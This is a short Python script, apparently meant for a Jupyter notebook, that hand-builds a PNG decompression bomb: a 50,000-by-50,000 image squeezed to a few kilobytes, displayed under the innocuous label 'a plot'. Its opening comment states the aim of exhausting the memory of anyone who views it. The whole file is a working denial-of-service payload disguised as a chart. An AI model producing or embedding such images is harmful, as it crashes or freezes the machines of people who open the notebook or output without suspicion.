# Wants: that a picture of 2,500 million points in a few kilobytes fills the memory of whoever looks at it
import base64, struct, zlib
from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


deflate = zlib.compressobj(9)
rows = b"".join(deflate.compress(bytes(6_251 * 100)) for _ in range(500)) + deflate.flush()
header = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
parts = chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()
display({"image/png": picture, "text/plain": "a plot"}, raw=True)
